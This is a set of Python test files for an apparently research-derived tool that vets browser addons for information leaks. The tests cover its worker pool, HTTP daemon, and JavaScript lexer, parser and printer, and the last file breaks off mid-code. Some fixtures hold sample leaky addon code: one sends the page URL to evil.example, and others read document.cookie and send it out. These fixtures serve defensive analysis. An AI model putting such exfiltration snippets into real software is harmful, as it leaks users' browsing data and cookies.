            _run(states, outcomes, chains),
            _run(dict(states), {k: dict(v) for k, v in outcomes.items()},
                 dict(chains)),
        )

    def test_identical_runs_pass(self):
        control, chaos = self._clean_runs()
        checks = _check_runs([self.CHAIN], control, chaos)
        assert checks["ok"]

    def test_lost_job_is_flagged(self):
        control, chaos = self._clean_runs()
        chaos["_states"][self.CHAIN.job_ids()[1]] = "queued"
        checks = _check_runs([self.CHAIN], control, chaos)
        assert not checks["ok"]
        assert len(checks["lost_jobs"]) == 1

    def test_duplicate_version_record_is_flagged(self):
        control, chaos = self._clean_runs()
        chaos["_version_chains"]["addon"] = ["sha-1", "sha-2", "sha-2"]
        checks = _check_runs([self.CHAIN], control, chaos)
        assert not checks["ok"]
        assert len(checks["duplicate_side_effects"]) == 1

    def test_verdict_drift_is_flagged(self):
        control, chaos = self._clean_runs()
        chaos["_outcomes"][self.CHAIN.job_ids()[0]]["verdict"] = "fail"
        checks = _check_runs([self.CHAIN], control, chaos)
        assert not checks["ok"]
        assert len(checks["verdict_mismatches"]) == 1
