"""SupervisedPool: typed outcomes through, crashes and deadlines out."""

import asyncio
import os
import signal
import time

import pytest

from repro.batch import VetTask
from repro.service.supervisor import (
    JobDeadlineError,
    SupervisedPool,
    WorkerCrashError,
)

pytestmark = pytest.mark.service


@pytest.fixture(scope="module")
def pool():
    pool = SupervisedPool(workers=1)
    yield pool
    pool.shutdown()


def test_run_returns_typed_outcome(pool):
    source = """
    var xhr = new XMLHttpRequest();
    xhr.open("GET", "https://feed.example/items", true);
    xhr.send(null);
    """
    outcome = asyncio.run(pool.run(VetTask(name="ok", source=source)))
    assert outcome.ok
    assert "feed.example" in outcome.signature_text


def test_per_addon_faults_stay_inside_the_outcome(pool):
    outcome = asyncio.run(
        pool.run(VetTask(name="broken", source="var broken = ;;;("))
    )
    assert not outcome.ok
    assert outcome.failure == "parse-error"


@pytest.mark.faults
def test_worker_sigkill_surfaces_as_crash_and_pool_heals(pool):
    async def crash_then_recover():
        # Warm the pool so there is a worker to kill.
        await pool.run(VetTask(name="warm", source="var w = 0;"))
        pids = pool.worker_pids()
        assert pids, "spawned worker should be visible"

        async def kill_soon():
            await asyncio.sleep(0.2)
            os.kill(pids[0], signal.SIGKILL)

        killer = asyncio.ensure_future(kill_soon())
        with pytest.raises(WorkerCrashError):
            # Big enough to still be running when the kill lands.
            big = "\n".join(
                f"var v{n} = document.cookie; send(v{n});"
                for n in range(2000)
            )
            await pool.run(VetTask(name="victim", source=big))
        await killer

        healed = await pool.run(VetTask(name="after", source="var a = 1;"))
        return healed

    healed = asyncio.run(crash_then_recover())
    assert healed.ok
    assert pool.rebuilds >= 1
    assert pool.worker_pids(), "pool rebuilt with fresh workers"


@pytest.mark.faults
def test_hard_deadline_fires_for_wedged_jobs():
    """A job that outlives the hard backstop fails as a deadline, and
    the wedged worker is reclaimed by a pool teardown. The production
    backstop is deliberately generous (10s+ grace), so the test narrows
    the seam instead of waiting it out."""
    pool = SupervisedPool(workers=1, timeout=30.0)
    pool._deadline = lambda task: 0.5

    big = "\n".join(
        f"var v{n} = document.cookie; send(v{n});" for n in range(5000)
    )
    with pytest.raises(JobDeadlineError):
        asyncio.run(pool.run(VetTask(name="wedged", source=big)))
    assert pool.rebuilds == 1
    assert pool.worker_pids() == [], "wedged worker torn down"

    del pool._deadline  # back to the generous production backstop
    healed = asyncio.run(pool.run(VetTask(name="after", source="var a = 1;")))
    assert healed.ok
    pool.shutdown()
