"""End-to-end: a real daemon subprocess driven over its HTTP door."""

import asyncio
import json

import pytest

from repro.batch import VetTask
from repro.service.client import ServiceClient, ServiceError
from repro.service.daemon import RpcError, VettingService
from repro.service.jobs import derive_job_id
from repro.service.loadgen import DaemonHandle

pytestmark = pytest.mark.service

LEAKY = """
var xhr = new XMLHttpRequest();
xhr.open("GET", "https://evil.example/?u=" + content.location.href, true);
xhr.send(null);
"""

UPDATED = LEAKY + """
var beat = new XMLHttpRequest();
beat.open("POST", "https://telemetry.example/beat", true);
beat.send(null);
"""


@pytest.fixture(scope="module")
def daemon(tmp_path_factory):
    directory = tmp_path_factory.mktemp("daemon")
    handle = DaemonHandle(directory, workers=1, max_attempts=3, fsync=False)
    handle.start()
    yield handle
    handle.stop()


class TestHttpFrontDoor:
    def test_submit_wait_result_roundtrip(self, daemon):
        client = ServiceClient(daemon.port)
        submitted = client.submit(VetTask(name="leaky", source=LEAKY))
        status = client.wait(submitted["id"], timeout=60.0)
        assert status["state"] == "done"
        outcome = client.result(submitted["id"])["outcome"]
        assert outcome["ok"]
        assert "evil.example" in outcome["signature_text"]

    def test_resubmission_is_idempotent(self, daemon):
        client = ServiceClient(daemon.port)
        task = VetTask(name="leaky", source=LEAKY)
        job_id = derive_job_id(task.name, task.source)
        first = client.submit(task, job_id=job_id)
        client.wait(job_id, timeout=60.0)
        again = client.submit(task, job_id=job_id)
        assert again["id"] == first["id"]
        assert again["state"] == "done", "no second execution"

    def test_update_resolves_baseline_from_version_store(self, daemon):
        client = ServiceClient(daemon.port)
        update_id = client.submit(VetTask(name="leaky", source=UPDATED))
        status = client.wait(update_id["id"], timeout=60.0)
        assert status["state"] == "done"
        outcome = client.result(update_id["id"])["outcome"]
        assert outcome["diff_verdict"] is not None, (
            "second version of an addon must take the diff path"
        )

    def test_unknown_job_is_a_clean_404(self, daemon):
        client = ServiceClient(daemon.port)
        with pytest.raises(ServiceError) as failure:
            client.status("no-such-job")
        assert failure.value.status == 404
        assert failure.value.code == "unknown-job"

    def test_stats_shape(self, daemon):
        stats = ServiceClient(daemon.port).stats()
        assert set(stats) >= {"queue", "pool"}
        assert stats["queue"]["states"].get("done", 0) >= 2

    def test_discovery_file_is_published(self, daemon):
        data = json.loads(
            (daemon.directory / "daemon.json").read_text("utf-8")
        )
        assert data["port"] == daemon.port
        assert data["pid"] == daemon.process.pid


@pytest.mark.faults
class TestRestartRecovery:
    def test_queued_work_survives_a_daemon_sigkill(self, tmp_path):
        handle = DaemonHandle(
            tmp_path, workers=1, max_attempts=3, fsync=False
        )
        handle.start()
        try:
            client = ServiceClient(handle.port)
            tasks = [
                VetTask(name=f"addon-{n}", source=LEAKY.replace(
                    "evil.example", f"evil-{n}.example"
                ))
                for n in range(4)
            ]
            ids = [client.submit(task)["id"] for task in tasks]
            handle.kill()
            handle.start()
            for job_id in ids:
                status = client.wait(job_id, timeout=120.0)
                assert status["state"] == "done", status
            replay = handle.recovery_summary()
            assert replay is not None
            assert replay["jobs_replayed"] >= 4
        finally:
            handle.stop()


class TestRpcValidation:
    def test_submit_requires_a_source(self, tmp_path):
        async def drive():
            service = VettingService(tmp_path, workers=1, fsync=False)
            try:
                with pytest.raises(RpcError) as failure:
                    await service.rpc("submit", {"task": {"name": "x"}})
                assert failure.value.status == 400
                with pytest.raises(RpcError) as failure:
                    await service.rpc("frobnicate", {})
                assert failure.value.status == 404
            finally:
                await service.stop(grace=5.0)

        asyncio.run(drive())
