"""Tests for the AST printer, including parse/print round-trip stability
over the whole benchmark corpus."""

import pytest

from repro.js import ast, parse
from repro.js.printer import print_expression, print_program, print_statement


def strip_positions(node):
    """Structural fingerprint of an AST, ignoring positions."""
    parts = [node.kind]
    for field_name in vars(node):
        if field_name == "position":
            continue
        value = getattr(node, field_name)
        if isinstance(value, ast.Node):
            parts.append(strip_positions(value))
        elif isinstance(value, list):
            parts.append(
                tuple(
                    strip_positions(item) if isinstance(item, ast.Node) else item
                    for item in value
                )
            )
        else:
            parts.append(value)
    return tuple(parts)


def roundtrip(source):
    first = parse(source)
    printed = print_program(first)
    second = parse(printed)
    assert strip_positions(first) == strip_positions(second), printed
    return printed


class TestExpressions:
    def test_literals(self):
        for source in ["42;", "'str';", "true;", "null;", "undefined;", "this;"]:
            roundtrip(source)

    def test_string_escapes(self):
        roundtrip('var s = "line\\nbreak\\t\\"quoted\\"";')

    def test_operators(self):
        roundtrip("var x = 1 + 2 * 3 - 4 / 5 % 6;")
        roundtrip("var b = a < b && c >= d || !e;")
        roundtrip("var s = a << 2 >>> 1 & 3 | 4 ^ 5;")

    def test_assignment_forms(self):
        roundtrip("x = 1; x += 2; x -= 3; x *= 4; o.p |= 5;")

    def test_member_and_calls(self):
        roundtrip("a.b.c(1)(2)[k].d;")
        roundtrip("new Foo(1, 2).bar();")

    def test_object_and_array_literals(self):
        roundtrip("var o = {a: 1, 'b c': 2};")
        roundtrip("var a = [1, [2, 3], {x: 4}];")

    def test_conditional_and_sequence(self):
        roundtrip("var x = a ? b : c;")
        roundtrip("x = (a, b, c);")

    def test_updates(self):
        roundtrip("i++; --j; a[k]++;")

    def test_unary_keywords(self):
        roundtrip("var t = typeof x; void 0; delete o.p;")


class TestStatements:
    def test_control_flow(self):
        roundtrip("if (a) f(); else { g(); }")
        roundtrip("while (x) { x--; }")
        roundtrip("do f(); while (c);")
        roundtrip("for (var i = 0; i < 9; i++) f(i);")
        roundtrip("for (k in o) use(k);")
        roundtrip("for (;;) break;")

    def test_functions(self):
        roundtrip("function f(a, b) { return a + b; }")
        roundtrip("var f = function inner(n) { return n; };")

    def test_try_catch_finally(self):
        roundtrip("try { f(); } catch (e) { g(e); } finally { h(); }")
        roundtrip("try { throw 'x'; } catch (e) {}")

    def test_switch(self):
        roundtrip(
            "switch (x) { case 1: a(); break; case 'two': b(); default: c(); }"
        )

    def test_labels(self):
        roundtrip("outer: while (a) { break outer; }")

    def test_nested_blocks(self):
        roundtrip("{ { var x = 1; } }")


class TestCorpusRoundTrip:
    def test_every_benchmark_addon_roundtrips(self):
        from repro.addons import CORPUS

        for spec in CORPUS:
            roundtrip(spec.source())

    def test_figure1_roundtrips(self):
        from repro.evaluation import FIGURE1_PROGRAM

        roundtrip(FIGURE1_PROGRAM)


class TestHelpers:
    def test_print_expression(self):
        expr = parse("1 + 2;").body[0].expression
        assert print_expression(expr) == "(1 + 2)"

    def test_print_statement(self):
        stmt = parse("var x = 1;").body[0]
        assert print_statement(stmt) == "var x = 1;"
