"""Unit tests for the JavaScript parser."""

import pytest

from repro.js import ast, parse
from repro.js.errors import ParseError, UnsupportedSyntaxError


def parse_expr(source):
    """Parse a single expression statement and return its expression."""
    program = parse(source)
    assert len(program.body) == 1
    stmt = program.body[0]
    assert isinstance(stmt, ast.ExpressionStatement)
    return stmt.expression


def parse_stmt(source):
    program = parse(source)
    assert len(program.body) == 1
    return program.body[0]


class TestLiterals:
    def test_number(self):
        expr = parse_expr("42;")
        assert isinstance(expr, ast.NumberLiteral)
        assert expr.value == 42.0

    def test_hex_number(self):
        assert parse_expr("0xFF;").value == 255.0

    def test_string(self):
        expr = parse_expr("'hello';")
        assert isinstance(expr, ast.StringLiteral)
        assert expr.value == "hello"

    def test_booleans_null_undefined(self):
        assert isinstance(parse_expr("true;"), ast.BooleanLiteral)
        assert isinstance(parse_expr("false;"), ast.BooleanLiteral)
        assert isinstance(parse_expr("null;"), ast.NullLiteral)
        assert isinstance(parse_expr("undefined;"), ast.UndefinedLiteral)

    def test_regex(self):
        expr = parse_expr("/ab+c/i;")
        assert isinstance(expr, ast.RegexLiteral)

    def test_this(self):
        assert isinstance(parse_expr("this;"), ast.ThisExpression)

    def test_array_literal(self):
        expr = parse_expr("[1, 'two', x];")
        assert isinstance(expr, ast.ArrayLiteral)
        assert len(expr.elements) == 3

    def test_array_elision_becomes_undefined(self):
        expr = parse_expr("[, 1];")
        assert isinstance(expr.elements[0], ast.UndefinedLiteral)

    def test_object_literal_identifier_and_string_keys(self):
        expr = parse_expr("({a: 1, 'b c': 2, 3: x});")
        assert isinstance(expr, ast.ObjectLiteral)
        assert [p.key for p in expr.properties] == ["a", "b c", "3"]

    def test_object_literal_keyword_key(self):
        expr = parse_expr("({new: 1, in: 2});")
        assert [p.key for p in expr.properties] == ["new", "in"]


class TestOperators:
    def test_precedence_multiplication_over_addition(self):
        expr = parse_expr("1 + 2 * 3;")
        assert isinstance(expr, ast.BinaryExpression)
        assert expr.operator == "+"
        assert isinstance(expr.right, ast.BinaryExpression)
        assert expr.right.operator == "*"

    def test_left_associativity(self):
        expr = parse_expr("1 - 2 - 3;")
        assert expr.operator == "-"
        assert isinstance(expr.left, ast.BinaryExpression)

    def test_parenthesization_overrides(self):
        expr = parse_expr("(1 + 2) * 3;")
        assert expr.operator == "*"
        assert isinstance(expr.left, ast.BinaryExpression)

    def test_logical_operators_distinct_node(self):
        expr = parse_expr("a && b || c;")
        assert isinstance(expr, ast.LogicalExpression)
        assert expr.operator == "||"
        assert isinstance(expr.left, ast.LogicalExpression)

    def test_comparison_chain(self):
        expr = parse_expr("a < b == c;")
        assert expr.operator == "=="

    def test_in_and_instanceof(self):
        assert parse_expr("'x' in obj;").operator == "in"
        assert parse_expr("a instanceof B;").operator == "instanceof"

    def test_unary_operators(self):
        for op in ["-", "+", "!", "~"]:
            expr = parse_expr(f"{op}x;")
            assert isinstance(expr, ast.UnaryExpression)
            assert expr.operator == op

    def test_typeof_void_delete(self):
        for op in ["typeof", "void", "delete"]:
            expr = parse_expr(f"{op} x;")
            assert isinstance(expr, ast.UnaryExpression)
            assert expr.operator == op

    def test_prefix_and_postfix_update(self):
        pre = parse_expr("++i;")
        post = parse_expr("i++;")
        assert pre.prefix and not post.prefix

    def test_update_requires_reference(self):
        with pytest.raises(ParseError):
            parse("5++;")

    def test_conditional_expression(self):
        expr = parse_expr("a ? b : c;")
        assert isinstance(expr, ast.ConditionalExpression)

    def test_nested_conditional_right_associative(self):
        expr = parse_expr("a ? b : c ? d : e;")
        assert isinstance(expr.alternate, ast.ConditionalExpression)

    def test_sequence_expression(self):
        expr = parse_expr("a, b, c;")
        assert isinstance(expr, ast.SequenceExpression)
        assert len(expr.expressions) == 3

    def test_shift_operators(self):
        for op in ["<<", ">>", ">>>"]:
            assert parse_expr(f"a {op} b;").operator == op


class TestAssignment:
    def test_simple_assignment(self):
        expr = parse_expr("x = 1;")
        assert isinstance(expr, ast.AssignmentExpression)
        assert expr.operator == "="

    def test_compound_assignments(self):
        for op in ["+=", "-=", "*=", "/=", "%=", "&=", "|=", "^="]:
            assert parse_expr(f"x {op} 2;").operator == op

    def test_assignment_right_associative(self):
        expr = parse_expr("a = b = c;")
        assert isinstance(expr.value, ast.AssignmentExpression)

    def test_member_assignment(self):
        expr = parse_expr("obj.prop = 1;")
        assert isinstance(expr.target, ast.MemberExpression)

    def test_invalid_assignment_target(self):
        with pytest.raises(ParseError):
            parse("1 = 2;")


class TestMemberAndCall:
    def test_dot_access_normalizes_to_string_property(self):
        expr = parse_expr("a.b;")
        assert isinstance(expr, ast.MemberExpression)
        assert not expr.computed
        assert isinstance(expr.property, ast.StringLiteral)
        assert expr.property.value == "b"

    def test_keyword_property_name(self):
        expr = parse_expr("a.delete;")
        assert expr.property.value == "delete"

    def test_computed_access(self):
        expr = parse_expr("a[b + 1];")
        assert expr.computed
        assert isinstance(expr.property, ast.BinaryExpression)

    def test_chained_member_call(self):
        expr = parse_expr("a.b.c(1)(2);")
        assert isinstance(expr, ast.CallExpression)
        assert isinstance(expr.callee, ast.CallExpression)

    def test_call_arguments(self):
        expr = parse_expr("f(a, b + 1, 'x');")
        assert len(expr.arguments) == 3

    def test_new_with_arguments(self):
        expr = parse_expr("new XMLHttpRequest();")
        assert isinstance(expr, ast.NewExpression)
        assert isinstance(expr.callee, ast.Identifier)

    def test_new_without_arguments(self):
        expr = parse_expr("new Foo;")
        assert isinstance(expr, ast.NewExpression)
        assert expr.arguments == []

    def test_new_member_callee(self):
        expr = parse_expr("new a.b.C(1);")
        assert isinstance(expr, ast.NewExpression)
        assert isinstance(expr.callee, ast.MemberExpression)

    def test_new_result_immediately_called(self):
        expr = parse_expr("new Foo().bar();")
        assert isinstance(expr, ast.CallExpression)
        assert isinstance(expr.callee.object, ast.NewExpression)


class TestFunctions:
    def test_function_declaration(self):
        stmt = parse_stmt("function f(a, b) { return a; }")
        assert isinstance(stmt, ast.FunctionDeclaration)
        assert stmt.name == "f"
        assert stmt.params == ["a", "b"]

    def test_anonymous_function_expression(self):
        expr = parse_expr("(function(x) { return x; });")
        assert isinstance(expr, ast.FunctionExpression)
        assert expr.name is None

    def test_named_function_expression(self):
        expr = parse_expr("(function fact(n) { return n; });")
        assert expr.name == "fact"

    def test_function_expression_as_argument(self):
        expr = parse_expr("addEventListener('load', function(e) {}, false);")
        assert isinstance(expr.arguments[1], ast.FunctionExpression)

    def test_nested_functions(self):
        stmt = parse_stmt("function outer() { function inner() {} }")
        assert isinstance(stmt.body.body[0], ast.FunctionDeclaration)


class TestStatements:
    def test_var_with_multiple_declarators(self):
        stmt = parse_stmt("var i = 0, count = 0, x;")
        assert isinstance(stmt, ast.VariableDeclaration)
        assert [d.name for d in stmt.declarations] == ["i", "count", "x"]
        assert stmt.declarations[2].init is None

    def test_if_else(self):
        stmt = parse_stmt("if (a) b(); else c();")
        assert isinstance(stmt, ast.IfStatement)
        assert stmt.alternate is not None

    def test_dangling_else_binds_to_nearest_if(self):
        stmt = parse_stmt("if (a) if (b) c(); else d();")
        assert stmt.alternate is None
        assert stmt.consequent.alternate is not None

    def test_while(self):
        stmt = parse_stmt("while (x) { x--; }")
        assert isinstance(stmt, ast.WhileStatement)

    def test_do_while(self):
        stmt = parse_stmt("do { x--; } while (x);")
        assert isinstance(stmt, ast.DoWhileStatement)

    def test_for_classic(self):
        stmt = parse_stmt("for (var i = 0; i < 10; i++) f(i);")
        assert isinstance(stmt, ast.ForStatement)
        assert isinstance(stmt.init, ast.VariableDeclaration)

    def test_for_with_empty_clauses(self):
        stmt = parse_stmt("for (;;) break;")
        assert stmt.init is None and stmt.test is None and stmt.update is None

    def test_for_in_with_var(self):
        stmt = parse_stmt("for (var k in obj) f(k);")
        assert isinstance(stmt, ast.ForInStatement)
        assert stmt.variable == "k"
        assert stmt.declares

    def test_for_in_without_var(self):
        stmt = parse_stmt("for (k in obj) f(k);")
        assert not stmt.declares

    def test_in_operator_allowed_inside_parens_in_for(self):
        stmt = parse_stmt("for (var i = ('a' in o); i; ) break;")
        assert isinstance(stmt, ast.ForStatement)

    def test_switch(self):
        stmt = parse_stmt(
            "switch (x) { case 1: a(); break; default: b(); }"
        )
        assert isinstance(stmt, ast.SwitchStatement)
        assert len(stmt.cases) == 2
        assert stmt.cases[1].test is None

    def test_switch_duplicate_default_rejected(self):
        with pytest.raises(ParseError):
            parse("switch (x) { default: a(); default: b(); }")

    def test_try_catch_finally(self):
        stmt = parse_stmt("try { f(); } catch (e) { g(e); } finally { h(); }")
        assert isinstance(stmt, ast.TryStatement)
        assert stmt.handler.param == "e"
        assert stmt.finalizer is not None

    def test_try_requires_catch_or_finally(self):
        with pytest.raises(ParseError):
            parse("try { f(); }")

    def test_throw(self):
        stmt = parse_stmt("throw new Error('x');")
        assert isinstance(stmt, ast.ThrowStatement)

    def test_labeled_statement_with_break(self):
        stmt = parse_stmt("outer: while (a) { break outer; }")
        assert isinstance(stmt, ast.LabeledStatement)
        assert stmt.label == "outer"

    def test_continue_with_label(self):
        stmt = parse_stmt("loop: while (a) { continue loop; }")
        inner = stmt.body.body.body[0]
        assert isinstance(inner, ast.ContinueStatement)
        assert inner.label == "loop"

    def test_empty_statement(self):
        assert isinstance(parse_stmt(";"), ast.EmptyStatement)

    def test_debugger_statement(self):
        assert isinstance(parse_stmt("debugger;"), ast.DebuggerStatement)


class TestAutomaticSemicolonInsertion:
    def test_asi_at_newline(self):
        program = parse("a = 1\nb = 2")
        assert len(program.body) == 2

    def test_asi_at_eof(self):
        program = parse("a = 1")
        assert len(program.body) == 1

    def test_asi_before_close_brace(self):
        program = parse("function f() { return 1 }")
        assert isinstance(program.body[0].body.body[0], ast.ReturnStatement)

    def test_no_asi_mid_line(self):
        with pytest.raises(ParseError):
            parse("a = 1 b = 2")

    def test_restricted_return(self):
        program = parse("function f() { return\n1; }")
        body = program.body[0].body.body
        assert body[0].argument is None  # ASI after bare return
        assert isinstance(body[1], ast.ExpressionStatement)

    def test_restricted_throw_rejected(self):
        with pytest.raises(ParseError):
            parse("throw\n'x';")

    def test_restricted_postfix_update(self):
        # `a\n++b` must parse as `a; ++b` per the restricted production.
        program = parse("a\n++b")
        assert len(program.body) == 2


class TestUnsupportedSyntax:
    @pytest.mark.parametrize(
        "source",
        [
            "with (obj) { f(); }",
            "class A {}",
            "let x = 1;",
            "const y = 2;",
            "import x;",
        ],
    )
    def test_unsupported_constructs_rejected(self, source):
        with pytest.raises(UnsupportedSyntaxError):
            parse(source)

    def test_getter_rejected(self):
        with pytest.raises(UnsupportedSyntaxError):
            parse("({get x() { return 1; }});")

    def test_get_as_plain_key_is_fine(self):
        expr = parse_expr("({get: 1});")
        assert expr.properties[0].key == "get"


class TestNodeCount:
    def test_count_is_monotone_in_program_size(self):
        from repro.js import node_count

        small = node_count(parse("a = 1;"))
        large = node_count(parse("a = 1; b = a + 2; f(b);"))
        assert small < large

    def test_single_literal_count(self):
        from repro.js import node_count

        # Program + ExpressionStatement + NumberLiteral
        assert node_count(parse("1;")) == 3


class TestRealisticAddonCode:
    """End-to-end parses of idiomatic addon code from the paper."""

    def test_paper_section2_explicit_flow_example(self):
        source = """
        function ajax(params) {
            var data = params["data"];
            request = XHRWrapper(publicServer);
            request.send("url is: " + data);
        }
        ajax({ data: content.location.href });
        """
        program = parse(source)
        assert len(program.body) == 2

    def test_paper_section2_implicit_flow_example(self):
        source = """
        window.addEventListener("load", check, false);
        function check(e) {
            var seen = false;
            if (content.location.href == "sensitive.com")
                seen = true;
            var request = XHRWrapper(publicServer);
            request.send(seen);
        }
        """
        program = parse(source)
        assert len(program.body) == 2

    def test_paper_section5_prefix_example(self):
        source = """
        var baseURL = "www.example.com/req?";
        if (cond) baseURL += "name";
        else baseURL += "age";
        """
        program = parse(source)
        assert len(program.body) == 2

    def test_figure1_program(self):
        source = """
        var data = { url: doc.loc };
        send(data.url);
        send(data[getString()]);
        func();
        if (doc.loc == "secret.com")
          send(null);
        var arr = ["covert.com", "priv.com"];
        var i = 0, count = 0;
        while(arr[i] && doc.loc != arr[i]) {
          i++;
          count++; }
        send(count);
        try {
          if (doc.loc != "hush-hush.com")
            throw "irrelevant";
          send(null);
        } catch(x) {};
        try {
          if (doc.loc != "mystic.com")
            obj.prop = 1;
          send(null);
        } catch(x) {}
        """
        program = parse(source)
        kinds = [s.kind for s in program.body]
        assert kinds.count("TryStatement") == 2
        assert "WhileStatement" in kinds
