"""Unit tests for the JavaScript lexer."""

import pytest

from repro.js.errors import LexError
from repro.js.lexer import tokenize
from repro.js.tokens import TokenType


def kinds(source):
    return [t.type for t in tokenize(source)][:-1]  # drop EOF


def values(source):
    return [t.value for t in tokenize(source)][:-1]


class TestBasicTokens:
    def test_empty_source_yields_only_eof(self):
        tokens = tokenize("")
        assert len(tokens) == 1
        assert tokens[0].type is TokenType.EOF

    def test_identifiers_and_keywords(self):
        tokens = tokenize("var foo = bar")
        assert [t.type for t in tokens[:4]] == [
            TokenType.KEYWORD,
            TokenType.IDENTIFIER,
            TokenType.PUNCTUATOR,
            TokenType.IDENTIFIER,
        ]

    def test_dollar_and_underscore_identifiers(self):
        assert values("$x _y $ _") == ["$x", "_y", "$", "_"]

    def test_identifier_with_digits(self):
        assert values("abc123") == ["abc123"]

    def test_keywords_recognized(self):
        for kw in ["function", "return", "typeof", "instanceof", "new", "in"]:
            token = tokenize(kw)[0]
            assert token.type is TokenType.KEYWORD, kw

    def test_undefined_is_keyword(self):
        assert tokenize("undefined")[0].type is TokenType.KEYWORD


class TestNumbers:
    @pytest.mark.parametrize(
        "literal", ["0", "42", "3.14", ".5", "1e10", "2.5e-3", "7E+2", "0x1F", "0XAB"]
    )
    def test_valid_number_literals(self, literal):
        tokens = tokenize(literal)
        assert tokens[0].type is TokenType.NUMBER
        assert tokens[0].value == literal

    def test_number_followed_by_dot_member(self):
        # `1 .toString` style is unusual; `x.1` invalid; but `1.5.toFixed` lexes
        # as number then punctuator then identifier.
        assert kinds("1.5.") == [TokenType.NUMBER, TokenType.PUNCTUATOR]

    def test_malformed_hex_raises(self):
        with pytest.raises(LexError):
            tokenize("0x")

    def test_malformed_exponent_raises(self):
        with pytest.raises(LexError):
            tokenize("1e+")

    def test_identifier_after_number_raises(self):
        with pytest.raises(LexError):
            tokenize("3foo")


class TestStrings:
    def test_double_and_single_quotes(self):
        assert values("\"hi\" 'there'") == ["hi", "there"]

    def test_escape_sequences(self):
        assert values(r'"\n\t\\\""') == ['\n\t\\"']

    def test_hex_and_unicode_escapes(self):
        assert values(r'"\x41B"') == ["AB"]

    def test_unknown_escape_is_literal_char(self):
        assert values(r'"\q"') == ["q"]

    def test_line_continuation_contributes_nothing(self):
        assert values('"ab\\\ncd"') == ["abcd"]

    def test_unterminated_string_raises(self):
        with pytest.raises(LexError):
            tokenize('"abc')

    def test_raw_newline_in_string_raises(self):
        with pytest.raises(LexError):
            tokenize('"ab\ncd"')

    def test_malformed_unicode_escape_raises(self):
        with pytest.raises(LexError):
            tokenize(r'"\u00"')


class TestComments:
    def test_line_comment_skipped(self):
        assert values("a // comment\nb") == ["a", "b"]

    def test_block_comment_skipped(self):
        assert values("a /* x */ b") == ["a", "b"]

    def test_block_comment_newline_sets_flag(self):
        tokens = tokenize("a /* line1\nline2 */ b")
        assert tokens[1].preceded_by_newline

    def test_unterminated_block_comment_raises(self):
        with pytest.raises(LexError):
            tokenize("/* never ends")


class TestPunctuators:
    def test_maximal_munch(self):
        assert values("a===b") == ["a", "===", "b"]
        assert values("a==b") == ["a", "==", "b"]
        assert values("x>>>=y") == ["x", ">>>=", "y"]
        assert values("i++ + ++j") == ["i", "++", "+", "++", "j"]

    def test_all_single_char_punctuators(self):
        source = "{ } ( ) [ ] ; , < > + - * % & | ^ ! ~ ? : = ."
        for v in values(source):
            assert len(v) == 1

    def test_unexpected_character_raises(self):
        with pytest.raises(LexError):
            tokenize("@")


class TestRegexDisambiguation:
    def test_regex_at_start(self):
        tokens = tokenize("/abc/g")
        assert tokens[0].type is TokenType.REGEX
        assert tokens[0].value == "/abc/g"

    def test_regex_after_operator(self):
        tokens = tokenize("x = /a+/")
        assert tokens[2].type is TokenType.REGEX

    def test_division_after_identifier(self):
        tokens = tokenize("x / y")
        assert tokens[1].type is TokenType.PUNCTUATOR
        assert tokens[1].value == "/"

    def test_division_after_close_paren(self):
        tokens = tokenize("(x) / y")
        assert tokens[3].value == "/"
        assert tokens[3].type is TokenType.PUNCTUATOR

    def test_regex_after_open_paren(self):
        tokens = tokenize("match(/ab/)")
        assert tokens[2].type is TokenType.REGEX

    def test_regex_with_character_class_containing_slash(self):
        tokens = tokenize("x = /[/]/")
        assert tokens[2].type is TokenType.REGEX
        assert tokens[2].value == "/[/]/"

    def test_regex_with_escaped_slash(self):
        tokens = tokenize(r"x = /a\/b/")
        assert tokens[2].type is TokenType.REGEX

    def test_unterminated_regex_raises(self):
        with pytest.raises(LexError):
            tokenize("x = /abc")


class TestNewlineTracking:
    def test_newline_flag_set_after_line_break(self):
        tokens = tokenize("a\nb")
        assert not tokens[0].preceded_by_newline
        assert tokens[1].preceded_by_newline

    def test_no_newline_flag_on_same_line(self):
        tokens = tokenize("a b")
        assert not tokens[1].preceded_by_newline

    def test_crlf_counts_one_line(self):
        tokens = tokenize("a\r\nb")
        assert tokens[1].preceded_by_newline
        assert tokens[1].position.line == 2


class TestPositions:
    def test_line_and_column_tracking(self):
        tokens = tokenize("ab\n  cd")
        assert (tokens[0].position.line, tokens[0].position.column) == (1, 0)
        assert (tokens[1].position.line, tokens[1].position.column) == (2, 2)

    def test_position_after_block_comment(self):
        tokens = tokenize("/* a\nb */ x")
        assert tokens[0].position.line == 2
