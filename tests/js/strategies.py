"""Hypothesis strategies generating random (valid) JavaScript ASTs.

Used by the fuzz tests: random programs must round-trip through the
printer, and the whole pipeline (parse -> lower -> analyze -> PDG ->
signature) must run without crashing on anything the grammar can
produce.
"""

from __future__ import annotations

from hypothesis import strategies as st

from repro.js import ast

_names = st.sampled_from(["a", "b", "cee", "dee", "x1", "y2", "obj", "fn"])
_prop_names = st.sampled_from(["p", "q", "url", "data", "k2"])


def _literals():
    return st.one_of(
        st.builds(ast.NumberLiteral, st.integers(0, 999).map(float)),
        st.builds(ast.StringLiteral, st.text(alphabet="ab c/:.\n\"'\\", max_size=6)),
        st.builds(ast.BooleanLiteral, st.booleans()),
        st.builds(ast.NullLiteral),
        st.builds(ast.UndefinedLiteral),
        st.builds(ast.Identifier, _names),
        st.builds(ast.ThisExpression),
    )


def expressions(depth: int = 3):
    """Random expression trees up to the given depth."""
    if depth <= 0:
        return _literals()
    sub = expressions(depth - 1)
    return st.one_of(
        _literals(),
        st.builds(
            ast.BinaryExpression,
            st.sampled_from(["+", "-", "*", "/", "%", "==", "<", ">=", "&", "<<"]),
            sub,
            sub,
        ),
        st.builds(
            ast.LogicalExpression, st.sampled_from(["&&", "||"]), sub, sub
        ),
        st.builds(
            ast.UnaryExpression,
            st.sampled_from(["-", "!", "~", "typeof", "void"]),
            sub,
        ),
        st.builds(ast.ConditionalExpression, sub, sub, sub),
        st.builds(
            ast.MemberExpression,
            st.builds(ast.Identifier, _names),
            st.builds(ast.StringLiteral, _prop_names),
            st.just(False),
        ),
        st.builds(
            ast.MemberExpression,
            st.builds(ast.Identifier, _names),
            sub,
            st.just(True),
        ),
        st.builds(
            ast.CallExpression,
            st.builds(ast.Identifier, _names),
            st.lists(sub, max_size=2),
        ),
        st.builds(
            ast.AssignmentExpression,
            st.sampled_from(["=", "+=", "-="]),
            st.builds(ast.Identifier, _names),
            sub,
        ),
        st.builds(ast.ArrayLiteral, st.lists(sub, max_size=3)),
        st.builds(
            ast.ObjectLiteral,
            st.lists(st.builds(ast.Property, _prop_names, sub), max_size=2),
